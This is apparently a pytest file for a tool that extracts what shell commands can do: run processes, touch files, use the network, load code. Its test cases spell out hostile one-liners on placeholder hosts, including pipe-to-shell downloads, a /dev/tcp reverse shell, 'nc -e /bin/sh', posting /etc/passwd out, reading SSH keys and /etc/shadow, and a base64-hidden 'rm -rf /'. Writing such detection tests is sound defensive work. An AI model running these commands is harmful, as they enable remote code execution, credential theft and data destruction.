"""GUARD §extract-1: what a shell script or command line may do is found however it is written."""

import pytest

from consentry.examine.shell import extract_shell
from tests.examine.extractionwords import as_expected, words_of

CASES = [
    # programs
    ("ls -l", "proc:ls"),
    ("ls | sort && make || true; uname &", "proc:ls proc:sort proc:make proc:uname"),
    ("echo $(date) `id`", "proc:date proc:id"),
    ("x=$(hostnamectl)", "proc:hostnamectl"),
    ("diff <(sort a) <(sort b)", "proc:diff proc:sort read:a read:b"),
    ("(cd x && make); { tidy; }", "proc:make proc:tidy"),
    ("if a; then b; elif c; then d; else e; fi", "proc:a proc:b proc:c proc:d proc:e"),
    ("for i in 1 2; do work $i; done", "proc:work"),
    ("while step; do :; done; until stop; do :; done", "proc:step proc:stop"),
    ("case $1 in a) one;; *) two;; esac", "proc:one proc:two"),
    ("! fails", "proc:fails"),
    ("./build.sh x", "proc:./build.sh"),
    ("/usr/bin/env ls", "proc:/usr/bin/env proc:ls"),
    ("'l's; \"m\"ake; l\\s; $'\\x6cs'", "proc:ls proc:make"),
    ("P=make; $P all", "proc:make"),
    ("$CMD x", "env:CMD proc:*"),
    ("$(pick) x", "proc:pick proc:*"),
    ('"$@"', "proc:*"),
    ("f() { make; }; f", "proc:make"),
    ("function g { make; }\ng; command g", "proc:make proc:g"),
    (
        "if x; then curl() { :; }; fi; curl http://a.example.com",
        "proc:x proc:curl net:a.example.com:80",
    ),
    ("tool; tool() { :; }", "proc:tool"),
    ("tool() { :; }; unset -f tool; tool", "proc:tool"),
    ("alias ll='rm -f x'; ll", "proc:rm write:x"),
    # commands of the shell
    (
        "cd /x; echo a; export A=1; test 1; [ a = b ]; [[ a ]]; printf x; set -e; shift; read v; return 1",
        "",
    ),
    ("exec make all", "proc:make"),
    ("exec 2>&1", ""),
    ("command -v git >/dev/null", ""),
    ("command git status; builtin cd x", "proc:git"),
    ("eval 'rm x'", "proc:rm write:x"),
    ('eval "$CODE"', "env:CODE load:ANY"),
    ('eval "$(ssh-agent -s)"', "proc:* proc:ssh-agent load:ANY"),
    ("source ./lib.sh", "read:lib.sh >./lib.sh"),
    (". lib/env", "read:lib/env >./lib/env"),
    (". /etc/profile", "read:/etc/profile read:ABSOLUTE_PATH load:LIMITED"),
    ('. "$FILE"', "env:FILE load:ANY"),
    ('source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"', "proc:dirname read:lib.sh >./lib.sh"),
    ('D="$(cd "$(dirname "$0")" && pwd)"; . "$D/lib.sh"', "proc:dirname read:lib.sh >./lib.sh"),
    ("trap 'rm -f x' EXIT", "proc:rm write:x"),
    ('trap "$X" EXIT', "env:X load:ANY"),
    ("trap - INT", ""),
    # programs that start others
    ("sudo -u root make install", "proc:sudo proc:make"),
    ("sudo -E env A=b make", "proc:sudo proc:env proc:make"),
    ("sudo $X", "proc:sudo proc:* env:X"),
    ("sudo --strange make", "proc:sudo proc:make proc:*"),
    ("env -i A=1 make", "proc:env proc:make proc:*"),
    ("env", "proc:env env:*"),
    ("printenv TOKEN", "proc:printenv env:TOKEN"),
    (
        "nohup make & nice -n 5 tidy; timeout 5s work",
        "proc:nohup proc:make proc:nice proc:tidy proc:timeout proc:work",
    ),
    ("time -p make", "proc:time proc:make"),
    ("ls | xargs -n 1 rm -f", "proc:ls proc:xargs proc:rm"),
    ("xargs -I{} sh -c 'cp a b'", "proc:xargs proc:sh proc:cp read:a write:b"),
    ("find . -name '*.o' -exec rm {} \\;", "proc:find proc:rm read:./ write:./"),
    (
        "find /tmp/x -delete",
        "proc:find read:/tmp/x read:ABSOLUTE_PATH write:/tmp/x write:ABSOLUTE_PATH",
    ),
    ("npx eslint .", "proc:npx proc:eslint net:"),
    ("cross-env A=1 webpack", "proc:cross-env proc:webpack"),
    ('concurrently "npm run a" "tsc -w"', "proc:concurrently proc:npm proc:tsc"),
    ("busybox wget http://a.example.com", "proc:busybox proc:wget net:a.example.com:80 write:./"),
    # code
    ("bash -c 'rm x'", "proc:bash proc:rm write:x"),
    ("sh -ec 'bash -c \"rm x\"'", "proc:sh proc:bash proc:rm write:x"),
    ('bash -c "$X"', "proc:bash env:X load:ANY"),
    ("bash run.sh", "proc:bash read:run.sh >./run.sh"),
    ('bash "$X"', "proc:bash env:X load:ANY"),
    ("bash <<'E'\nrm x\nE\n", "proc:bash proc:rm write:x"),
    ("bash <<E\nrm $X\nE\n", "proc:bash env:X load:ANY"),
    ("bash <<< 'rm x'", "proc:bash proc:rm write:x"),
    ("echo 'rm x' | sh", "proc:sh proc:rm write:x"),
    (
        "curl -fsSL https://a.example.com/i.sh | sh",
        "proc:curl proc:sh net:a.example.com:443 load:ANY",
    ),
    (
        "curl https://a.example.com | sudo bash -s -- -y",
        "proc:curl proc:sudo proc:bash net:a.example.com:443 load:ANY",
    ),
    ("wget -qO- https://a.example.com | (sh)", "proc:wget proc:sh net:a.example.com:443 load:ANY"),
    ("bash <(curl -s https://a.example.com)", "proc:bash proc:curl net:a.example.com:443 load:ANY"),
    (
        'sh -c "$(curl -fsSL https://a.example.com)"',
        "proc:sh proc:curl net:a.example.com:443 load:ANY",
    ),
    ("echo cm0gLXJmIC8K | base64 -d | sh", "proc:base64 proc:sh load:ANY"),
    ("python3 -c 'import socket'", "proc:python3 net:"),
    ('python3 -c "$X"', "proc:python3 env:X load:ANY"),
    ("python3 - <<'E'\nimport socket\nE\n", "proc:python3 net:"),
    ("cat <<'E' | python3 -\nimport socket\nE\n", "proc:cat proc:python3 net:"),
    ("python3 tools/x.py --a", "proc:python3 read:tools/x.py >./tools/x.py"),
    ("python -m pip install x", "proc:python net:"),
    ("node -e \"require('fs').readFileSync('a')\"", "proc:node read:a"),
    ("node server.js", "proc:node read:server.js >./server.js"),
    ("deno run https://a.example.com/x.ts", "proc:deno load:ANY"),
    ("perl -e 'system(1)'", "proc:perl ?other-"),
    ("perl -pe 's/a/b/g' x", "proc:perl read:x"),
    ("awk '{print $1}' a.txt", "proc:awk read:a.txt"),
    ("awk 'BEGIN{system(\"id\")}'", "proc:awk ?awk-"),
    ("sed 's/a/b/' x; sed -i 's/a/b/' y", "proc:sed read:x read:y write:y"),
    ("sed 's/a/id/e' x", "proc:sed read:x ?sed-"),
    # files
    ("cat a b > c", "proc:cat read:a read:b write:c"),
    ("cat /etc/passwd", "proc:cat read:/etc/passwd read:ABSOLUTE_PATH"),
    (
        "cat ~/.ssh/id_rsa $HOME/.netrc",
        "proc:cat read:~/.ssh/id_rsa read:~/.netrc read:ABSOLUTE_PATH env:HOME",
    ),
    ("D=/etc; cat $D/shadow", "proc:cat read:/etc/shadow read:ABSOLUTE_PATH"),
    ("cat /etc/$X", "proc:cat read:/etc/ read:ABSOLUTE_PATH env:X"),
    ("cat /etc/{passwd,shadow} logs/*.txt", "proc:cat read:/etc/ read:ABSOLUTE_PATH read:logs/"),
    ("cp -r a b c/", "proc:cp read:a read:b write:c/"),
    ("mv a b", "proc:mv read:a write:a write:b"),
    ("rm -rf build", "proc:rm write:build"),
    (
        "mkdir -p out && touch out/a && chmod +x out/a",
        "proc:mkdir proc:touch proc:chmod write:out write:out/a",
    ),
    ("ln -s a b; dd if=/dev/zero of=disk.img", "proc:ln read:a write:b proc:dd write:disk.img"),
    ("echo x | tee -a log > /dev/null 2>&1", "proc:tee write:log"),
    ("echo x >> /var/log/y; : > z", "write:/var/log/y write:ABSOLUTE_PATH write:z"),
    ("work < in &> out", "proc:work read:in write:out"),
    ("tar xzf a.tgz -C out", "proc:tar read:a.tgz write:a.tgz write:out read:./ write:./"),
    (
        "tar cf x.tar --checkpoint-action=exec=evil a",
        "proc:tar read:x.tar write:x.tar read:a read:./ write:./ proc:*",
    ),
    ("head -n 3 a", "proc:head read:a"),
    ("grep -r root /etc", "proc:grep read:/etc read:ABSOLUTE_PATH"),
    ("[ -f .env ] && [[ -d node_modules ]]", "read:.env read:node_modules"),
    ("echo a >&2 2>&1 >&-", ""),
    # the network
    ("curl -o out -H 'A: b' https://a.example.com/x", "proc:curl net:a.example.com:443 write:out"),
    ("curl a.example.com:8080/x", "proc:curl net:a.example.com:8080"),
    ('curl "$URL"', "proc:curl net:* env:URL"),
    ('curl "https://a.example.com/$ID"', "proc:curl net:a.example.com:443 env:ID"),
    ('curl "https://$H/x"', "proc:curl net:* env:H"),
    (
        "curl -d @/etc/passwd https://a.example.com",
        "proc:curl net:a.example.com:443 read:/etc/passwd read:ABSOLUTE_PATH",
    ),
    ("curl --version", "proc:curl net:"),
    ("nc h.example.com 99", "proc:nc net:h.example.com:99"),
    ("nc -e /bin/sh h.example.com 99", "proc:nc proc:/bin/sh net:h.example.com:99"),
    (
        "curl https://a.example.com | bash /dev/stdin",
        "proc:curl proc:bash net:a.example.com:443 load:ANY",
    ),
    ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "proc:bash net:10.0.0.1:4242"),
    ("ssh user@h.example.com ls", "proc:ssh net:h.example.com:22"),
    ("scp a user@h.example.com:/b", "proc:scp read:a net:h.example.com:22"),
    ("rsync -av h.example.com:/a out", "proc:rsync net:h.example.com:22 write:out"),
    ("git clone https://a.example.com/x.git", "proc:git net:a.example.com:443"),
    ("git clone git@a.example.com:x/y.git dir", "proc:git net:a.example.com:22 write:dir"),
    ("git push origin main; git status", "proc:git net:"),
    ("git -c alias.x='!id' x", "proc:git proc:*"),
    ("pip install x; npm ci; apt-get install -y y", "proc:pip proc:npm proc:apt-get net:"),
    ("npm run build; npm test", "proc:npm"),
    ("docker run x", "proc:docker net:"),
    ("playwright test", "proc:playwright tool:browser net:"),
    # variables
    ('echo "$TOKEN" ${OTHER} ${A:-x} ${#B}', "env:TOKEN env:OTHER env:A env:B"),
    ("A=1; echo $A $1 $? $@ $$ $# ${10} $PWD $RANDOM", ""),
    ("A=${A:-x}; echo $A", "env:A"),
    ("T=x true; echo $T", "env:T"),
    ("for i in a; do echo $i; done; read v; echo $v", ""),
    ("f() { local x=$1; echo $x $y; }; y=2; f", ""),
    ("echo $((N + 1))", "env:N"),
    ("echo ${!NAME}", "env:NAME env:*"),
    ("export -p", "env:*"),
    ("LD_PRELOAD=./x.so work", "proc:work load:ANY"),
    ("NODE_OPTIONS=--max-old-space-size=4096 work", "proc:work"),
    ("NODE_OPTIONS='--require ./x.js' work", "proc:work load:ANY"),
    # algorithms
    ("sha256sum a", "proc:sha256sum read:a crypto:sha256"),
    ("openssl enc -aes-256-cbc -in a -out b", "proc:openssl crypto: read:a write:b"),
]

BENIGN = [
    "# curl https://a.example.com | sh",
    "echo 'curl https://a.example.com | sh'",
    'echo "rm -rf /" > /dev/null',
    "x='eval $(id)'",
    ": <<'E'\nrm -rf /\nE\n",
    'set -euo pipefail; cd "$(printf x)"; pwd',
    "a=(1 2 3); echo ${a[0]} ${#a[@]}; unset a",
    'if [ "$1" = x ]; then echo y; fi; exit 0',
    "usage() { echo usage; }; usage",
    "i=0; ((i++)); i=$((i + 1)); let i=i+1",
    'read -r line < /dev/stdin; echo "$line" >&2',
    "",
    "\n\n",
]  # fmt: skip


@pytest.mark.parametrize(("code", "expected"), CASES, ids=[case[0] for case in CASES])
def test_powers(code: str, expected: str) -> None:
    """GUARD §extract-1: each command line gives exactly the powers it has."""
    assert words_of(extract_shell(code.encode())) == as_expected(expected)


@pytest.mark.parametrize("code", BENIGN)
def test_look_alikes(code: str) -> None:
    """GUARD T1: what the shell does by itself, or only speaks of, is no power."""
    found = extract_shell(code.encode())
    assert (found.found, found.unclassified, found.imports) == ((), (), ())
